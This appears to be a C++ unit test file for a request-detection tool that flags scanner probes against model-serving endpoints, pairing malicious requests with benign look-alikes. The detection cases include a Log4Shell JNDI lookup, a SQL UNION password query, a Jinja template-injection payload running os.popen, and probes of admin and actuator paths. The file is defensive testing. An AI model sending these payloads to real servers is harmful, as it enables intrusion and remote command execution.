// SPDX-License-Identifier: Apache-2.0
// Exploits and paths of other products, which are thrown at every port.
#include "unit/rules_shipped_cases.hpp"

namespace probewall::test {
namespace {

Step blob(int i, int status) {
  return post("/api/blobs/sha256:" + std::string(60, '0') + n(1000 + i), "GGUF", status);
}

}  // namespace

std::vector<Case> web_cases() {
  return {
      {"exploit-in-agent",
       {agent("${jndi:ldap://203.0.113.9/a}", get("/"))},
       {agent("my-app/1.0 (env: prod)", get("/")), agent("curl/8.5.0; wget-like", get("/"))}},
      {"exploit-in-target",
       {get("/?x=%24%7Bjndi:ldap://203.0.113.9/q%7D")},
       {get("/api/tags?x=${name}"), get("/v1/models?next=/a/../b"),
        get("/proxy/http://localhost:3000/")}},
      {"query-in-target",
       {get("/api/v1/users/?query=1%20UNION%20SELECT%20password%20FROM%20auth", 401)},
       {get("/search?q=credit%20union%20membership"), get("/docs?q=sleep%20in%20python"),
        get("/search?q=how%20to%20select%20a%20model%20and%20a%20size")}},
      {"program-as-body",
       {post("/hello.world", "<?php echo(md5('Hello'));", 404)},
       {chat("m", "<?php echo 1; what is wrong here?"), post("/x", "<html></html>", 404)}},
      {"code-in-template",
       {post("/tokenize",
             R"({"chat_template":"{{ cycler.__init__.__globals__.os.popen('id') }}"})")},
       {post("/tokenize",
             R"({"chat_template":"{% for m in messages %}{{ m.content }}{% endfor %}"})"),
        chat("m", "explain ''.__class__.__mro__")}},
      {"foreign-path",
       {get("/boaform/admin/formLogin?username=admin&psd=admin", 404)},
       {get("/wp-login.php"), get("/shells/list", 404), get("/api/status", 404)}},
      {"foreign-paths",
       {get("/actuator/env", 404), get("/manager/html", 404)},
       {get("/actuator/health", 404), get("/manager", 404)}},
      {"odd-methods",
       {method("TRACE", get("/", 405)), method("PROPFIND", get("/", 405)),
        method("DEBUG", get("/", 405))},
       {method("TRACE", get("/", 405)), method("OPTIONS", get("/", 405)),
        method("TRACE", get("/", 405)), method("DELETE", get("/", 405))}},
      {"refused-blobs",
       repeat(3, [](int i) { return blob(i, 400); }),
       {blob(1, 400), blob(1, 400), blob(2, 201), blob(3, 201), blob(4, 201)}},
      {"tool-door",
       {post("/tools/invoke", R"({"tool":"exec"})", 401)},
       {post("/tools/invoke", R"({"tool":"exec"})"), get("/hooks", 401)}},
      {"tool-doors",
       {post("/tools/invoke", R"({"tool":"exec"})", 401), get("/hooks/agent", 401)},
       {post("/tools/invoke", R"({"tool":"exec"})", 401),
        post("/tools/invoke", R"({"tool":"read"})", 401)}},
  };
}

}  // namespace probewall::test
